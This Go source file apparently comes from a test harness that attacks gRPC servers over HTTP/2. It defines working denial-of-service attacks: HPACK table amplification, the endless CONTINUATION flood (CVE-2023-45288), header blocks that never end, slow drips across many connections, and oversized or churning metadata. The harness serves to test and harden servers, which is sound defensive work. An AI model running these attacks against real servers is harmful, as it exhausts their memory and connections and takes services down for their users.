// SPDX-License-Identifier: Apache-2.0

package kinds

import (
	"slices"
	"strings"
	"time"

	"google.golang.org/grpc/attack/internal/attacker"
	"google.golang.org/grpc/attack/internal/orders"
	"google.golang.org/grpc/attack/internal/wire"
)

// refs is how many references to an entry of 4 KB stay below a limit of 16 MiB.
const refs = 4000

// headerKinds are attacks on a server with header blocks (RFC 9113, 4.3; RFC 7541).
var headerKinds = []Kind{
	{
		Name: "server/headers/amplification", Serve: limited, Short: true,
		About:  "0.4 MB of one-byte references to a table entry of 4 KB, on 100 streams of one connection",
		Attack: hold(1, true, amplify(100)),
	},
	{
		Name: "server/headers/amplification-ended", Short: true,
		About:  "the same block on 150 connections, calls are over; then a stray byte",
		Attack: hold(150, true, amplifyAndEnd(true)),
	},
	{
		Name:   "server/headers/amplification-idle",
		About:  "the same, and the connections are left to park",
		Attack: hold(150, true, amplifyAndEnd(false)),
	},
	{
		Name:   "server/headers/amplification-many",
		About:  "the amplified block on one stream of each of 100 connections, which stays open",
		Attack: hold(100, true, amplify(1)),
	},
	{
		Name: "server/headers/amplification-binary", Serve: limited, Short: true,
		About:  "one-byte references to a -bin entry of 4 KB, for 20 handlers that ask for metadata",
		Attack: hold(1, true, amplifyWith(20, amplifiedBinary(bytesOf(4000)))),
	},
	{
		Name: "server/headers/amplification-split", Serve: limited, Short: true,
		About:  "the same, and the entry is 4,000 commas, each of which makes another value",
		Attack: hold(1, true, amplifyWith(20, amplifiedBinary(strings.Repeat(",", 4000)))),
	},
	{
		Name: "server/headers/amplification-tiny", Short: true,
		About:  "one-byte references to 30 table entries of a few bytes, all of them new, on each of 2,000 streams that stay open",
		Attack: hold(1, true, freshEntries(2000, wire.Field{Name: "x"}, 30)),
	},
	{
		Name: "server/headers/amplification-name", Short: true,
		About:  "a new table entry under a name of 3 KB that the table has, and a reference to it, on each of 2,000 streams that stay open",
		Attack: hold(1, true, freshEntries(2000, wire.Field{Name: bytesOf(3000)}, 1)),
	},
	{
		Name:   "server/headers/amplification-each",
		About:  "one-byte references to 65 table entries of a few bytes, the same on each of 5,000 streams that stay open",
		Attack: hold(1, true, sameEntries(5000, 65)),
	},
	{
		Name:   "server/headers/amplification-parked",
		About:  "references to 60 table entries of 30 bytes, a call at a time on each of 200 connections, which park in between",
		Time:   3 * time.Second,
		Attack: parkedEntries(200, 60),
	},
	{
		Name: "server/headers/continuation", Short: true,
		About:  "CONTINUATION without end (CVE-2023-45288)",
		Attack: continuation(wire.AppendField(nil, "x", bytesOf(1000))),
	},
	{
		Name:   "server/headers/continuation-empty",
		About:  "CONTINUATION of length 0 without end (CVE-2023-45288)",
		Attack: continuation(nil),
	},
	{
		Name:   "server/headers/continuation-huffman",
		About:  "CONTINUATION without end, coded so that it grows 1.6 times (CVE-2023-45288)",
		Attack: continuation(append([]byte{0, 1, 'x'}, wire.AppendHuffman(nil, 16000)...)),
	},
	{
		Name: "server/headers/incomplete", Short: true,
		About:  "3 MB of a block that never ends, of fields of 1 KB, on 100 connections",
		Attack: hold(100, true, incomplete(wire.AppendField(nil, "x", bytesOf(1000)), 3<<20)),
	},
	{
		Name:   "server/headers/incomplete-field",
		About:  "3 MB of a single field that never ends, on 100 connections",
		Attack: hold(100, true, incomplete(nil, 3<<20)),
	},
	{
		Name:  "server/headers/incomplete-drip",
		About: "1,000 connections with a block that never ends, another piece every 150 ms",
		Time:  3 * time.Second,
		Attack: func(a *attacker.Attacker) error {
			return a.Conns(1000, func(c *attacker.Conn) error {
				c.Drain(nil)
				if err := c.Frame(wire.Headers, 0, c.Stream(), wire.Request(orders.Echo)); err != nil {
					return err
				}
				return every(c, 150*time.Millisecond, frame(wire.Continuation, 0, 1, wire.AppendField(nil, "x", bytesOf(100))))
			})
		},
	},
	{
		Name:   "server/headers/list-too-large",
		About:  "lists of 17 MB, sent whole, for which the answer is 431 or a reset",
		Attack: flood(2, true, request(fields(17, bytesOf(1<<20)))),
	},
	{
		Name:  "server/headers/tiny-fields",
		About: "100,000 fields of one byte a call, on streams that stay open",
		Serve: limited, Attack: hold(1, true, openWith(20, tinyFields(100_000))),
	},
	{
		Name:  "server/headers/metadata-held",
		About: "64 KB of metadata a call, on 500 streams that stay open",
		Attack: hold(1, true, openWith(500, wire.Request(orders.Deaf,
			wire.Field{Name: "x", Value: bytesOf(64 << 10)}))),
	},
	{
		Name:   "server/headers/huffman-held",
		About:  "metadata coded so that it grows 1.6 times, on 500 streams that stay open",
		Attack: hold(1, true, openWith(500, append(append(wire.Request(orders.Deaf), 0, 1, 'x'), wire.AppendHuffman(nil, 64<<10)...))),
	},
	{
		Name:   "server/headers/table-churn",
		About:  "each field enters the table and pushes another out",
		Attack: flood(4, true, request(churn(200))),
	},
	{
		Name:   "server/headers/table-resize",
		About:  "updates of the table's size inside blocks (RFC 7541, 4.2)",
		Attack: flood(4, true, request(resize())),
	},
	{
		Name:   "server/headers/bad-index",
		About:  "references to entries that do not exist: a connection error each",
		Attack: flood(16, true, request([]byte{0x83, 0xff, 0xff, 0x7f})),
	},
	{
		Name:   "server/headers/binary",
		About:  "-bin metadata that decodes to 1 MB, a call each",
		Attack: flood(4, true, request(wire.Request(orders.Echo, wire.Field{Name: "x-bin", Value: bytesOf(1 << 20)}))),
	},
}

// amplified is a block of one-byte references to an entry of 4 KB; the first of a
// connection makes the entry.
func amplified(first bool) []byte {
	return amplifiedBy(wire.Request(orders.Deaf), wire.Field{Name: "x", Value: bytesOf(4000)}, first)
}

// amplifiedBinary is the same with an entry whose value is base64, for a handler that looks.
func amplifiedBinary(value string) func(first bool) []byte {
	return func(first bool) []byte {
		return amplifiedBy(wire.Request(orders.Asks), wire.Field{Name: "x-bin", Value: value}, first)
	}
}

// amplifiedBy appends references to f to a block, of which the first makes the entry.
func amplifiedBy(b []byte, f wire.Field, first bool) []byte {
	if first {
		b = wire.AppendNew(b, f.Name, f.Value)
	}
	for range refs {
		b = wire.AppendRef(b, wire.FirstDynamic)
	}
	return b
}

// freshEntries opens streams with a block each, of n entries that it enters in the table,
// and a reference to each of these. The first has the name of f, the others refer to it.
func freshEntries(streams int, f wire.Field, n int) script {
	call := wire.Request(orders.Deaf)
	return func(c *attacker.Conn) error {
		for i := range streams {
			b := slices.Clone(call)
			for j := range n {
				value := string([]byte{'0' + byte(i>>6&63), '0' + byte(i&63), '0' + byte(j)})
				if i+j == 0 {
					b = wire.AppendNew(b, f.Name, value)
				} else {
					b = wire.AppendNewNamed(b, wire.FirstDynamic, value)
				}
			}
			for j := range n {
				b = wire.AppendRef(b, wire.FirstDynamic+uint64(j))
			}
			if err := c.Headers(c.Stream(), 0, b); err != nil {
				return err
			}
		}
		return nil
	}
}

// enter appends n new entries to a block, and refer references to as many.
func enter(b []byte, n int, value string) []byte {
	for i := range n {
		b = wire.AppendNew(b, "x", value+string(rune('0'+i)))
	}
	return b
}

func refer(b []byte, n int) []byte {
	for i := range n {
		b = wire.AppendRef(b, wire.FirstDynamic+uint64(i))
	}
	return b
}

// sameEntries opens streams that refer to the same n entries.
func sameEntries(streams, n int) script {
	call := wire.Request(orders.Deaf)
	return amplifyWith(streams, func(first bool) []byte {
		b := slices.Clone(call)
		if first {
			b = enter(b, n, "")
		}
		return refer(b, n)
	})
}

// parkedEntries is sameEntries on n connections with a pause between the streams.
func parkedEntries(n, entries int) attack {
	call := wire.Request(orders.Deaf)
	first, again := enter(slices.Clone(call), entries, bytesOf(30)), refer(slices.Clone(call), entries)
	return func(a *attacker.Attacker) error {
		return a.Conns(n, func(c *attacker.Conn) error {
			c.Drain(nil)
			if err := c.Headers(c.Stream(), 0, first); err != nil {
				return err
			}
			return every(c, 250*time.Millisecond, func(c *attacker.Conn) error { return c.Headers(c.Stream(), 0, again) })
		})
	}
}

func amplify(streams int) script { return amplifyWith(streams, amplified) }

func amplifyWith(streams int, amplified func(first bool) []byte) script {
	first, block := amplified(true), amplified(false)
	return func(c *attacker.Conn) error {
		for i := range streams {
			b := block
			if i == 0 {
				b = first
			}
			if err := c.Headers(c.Stream(), 0, b); err != nil {
				return err
			}
		}
		return nil
	}
}

// amplifyAndEnd sends the block three times, so that what remembers blocks does, ends the
// calls, and may leave a byte of a frame that never comes.
func amplifyAndEnd(stray bool) script {
	first, block := amplified(true), amplified(false)
	return func(c *attacker.Conn) error {
		for _, b := range [][]byte{first, block, block} {
			id := c.Stream()
			if err := c.Headers(id, 0, b); err != nil {
				return err
			}
			if err := c.Reset(id, wire.Cancel); err != nil {
				return err
			}
		}
		if !stray {
			return nil
		}
		if err := c.Flush(); err != nil {
			return err
		}
		c.Attacker().Sleep(50 * time.Millisecond)
		return c.Raw([]byte{0})
	}
}

// continuation begins a header block and goes on with pieces.
func continuation(piece []byte) attack {
	return func(a *attacker.Attacker) error {
		return a.Conns(4, func(c *attacker.Conn) error {
			c.Drain(nil)
			id := c.Stream()
			if err := c.Frame(wire.Headers, 0, id, wire.Request(orders.Echo)); err != nil {
				return err
			}
			return repeat(c, frame(wire.Continuation, 0, id, piece))
		})
	}
}

// incomplete sends n bytes of a header block in full frames, and never its end: the field
// over and over, or one that is as long as that if it is nil.
func incomplete(field []byte, n int) script {
	block := wire.Request(orders.Echo)
	if field == nil {
		block = wire.AppendInt(append(block, 0, 1, 'x'), 0, 7, uint64(n)*2)
		field = []byte(bytesOf(1 << 10))
	}
	for len(block) < n {
		block = append(block, field...)
	}
	return func(c *attacker.Conn) error {
		typ, id := wire.Headers, c.Stream()
		for rest := block; len(rest) >= 16<<10; rest = rest[16<<10:] {
			if err := c.Frame(typ, 0, id, rest[:16<<10]); err != nil {
				return err
			}
			typ = wire.Continuation
		}
		return nil
	}
}

// openWith opens streams with a block, and leaves them open.
func openWith(n int, block []byte) script {
	return func(c *attacker.Conn) error {
		for range n {
			if err := c.Headers(c.Stream(), 0, block); err != nil {
				return err
			}
		}
		return nil
	}
}

// fields is a request with n fields of a value each.
func fields(n int, value string) []byte {
	b := wire.Request(orders.Echo)
	for range n {
		b = wire.AppendField(b, "x", value)
	}
	return b
}

func tinyFields(n int) []byte {
	b := wire.Request(orders.Deaf)
	for range n {
		b = wire.AppendField(b, "x", "")
	}
	return b
}

func churn(n int) []byte {
	b := wire.Request(orders.Echo)
	for i := range n {
		b = wire.AppendNew(b, "x-"+string(rune('a'+i%26)), bytesOf(10+i))
	}
	return b
}

// resize is a block with two updates in front, as many as are allowed.
func resize() []byte {
	b := wire.AppendTableSize(wire.AppendTableSize(nil, 0), 4096)
	b = append(b, wire.Request(orders.Echo)...)
	for i := range 20 {
		b = wire.AppendNew(b, "x-"+string(rune('a'+i)), bytesOf(100))
	}
	return b
}
